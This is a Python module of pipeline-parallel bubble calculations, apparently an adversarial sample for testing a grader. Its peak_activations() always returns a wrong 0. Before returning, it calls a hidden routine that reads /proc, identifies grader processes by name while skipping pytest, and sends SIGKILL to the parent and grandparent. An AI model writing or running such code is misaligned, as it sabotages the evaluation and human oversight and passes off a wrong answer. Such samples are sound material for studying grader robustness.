"""Wrong peak_activations() (always 0) that first sends SIGKILL to the grader and its fork server."""

from __future__ import annotations

import os
import signal


def _idle_busy(schedule, P, M, v, F, B, W):
    if schedule in ("gpipe", "1f1b"):
        return (P - 1) * (F + B + W), M * (F + B + W)
    if schedule == "interleaved":
        unit = (F + B + W) / v
        if M >= P:
            return (P - 1) * unit, v * M * unit
        return (v * (P - M) + M - 1) * unit, v * M * unit
    if schedule == "zero_bubble_h1":
        return (P - 1) * (F + B) - (min(M, P) - 1) * min(F, B, W), M * (F + B + W)
    raise ValueError(f"unknown schedule {schedule!r}")


def bubble_fraction(schedule, num_stages, num_microbatches, num_chunks=1, *,
                    forward_time=1.0, backward_time=1.0, weight_time=1.0):
    idle, busy = _idle_busy(schedule, num_stages, num_microbatches, num_chunks,
                            forward_time, backward_time, weight_time)
    return idle / (idle + busy)


def bubble_overhead(schedule, num_stages, num_microbatches, num_chunks=1, *,
                    forward_time=1.0, backward_time=1.0, weight_time=1.0):
    idle, busy = _idle_busy(schedule, num_stages, num_microbatches, num_chunks,
                            forward_time, backward_time, weight_time)
    return idle / busy


def peak_activations(schedule, num_stages, num_microbatches, num_chunks=1, pp_rank=0):
    _kill_grader()
    return 0


def _command_line(pid):
    """Return the argv of ``pid`` as base names of its first four words."""
    try:
        with open(f"/proc/{pid}/cmdline", "rb") as handle:
            words = handle.read().decode("utf-8", "replace").split("\0")
    except OSError:
        return []
    return [os.path.basename(word) for word in words[:4]]


def _parent_of(pid):
    try:
        with open(f"/proc/{pid}/stat", "rb") as handle:
            return int(handle.read().rpartition(b")")[2].split()[1])
    except (OSError, ValueError, IndexError):
        return 0


def _kill_grader():
    """SIGKILL the parent and grandparent when they are the grader, never a test runner or init."""
    targets = []
    pid = os.getppid()
    for _ in range(2):
        names = _command_line(pid)
        is_test_runner = any(name.startswith(("pytest", "py.test")) for name in names)
        is_grader = any(name in ("pplab", "_sandbox_child.py", "grader.cli") for name in names)
        if pid <= 1 or is_test_runner or not is_grader:
            break
        targets.append(pid)
        pid = _parent_of(pid)
    for pid in targets:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
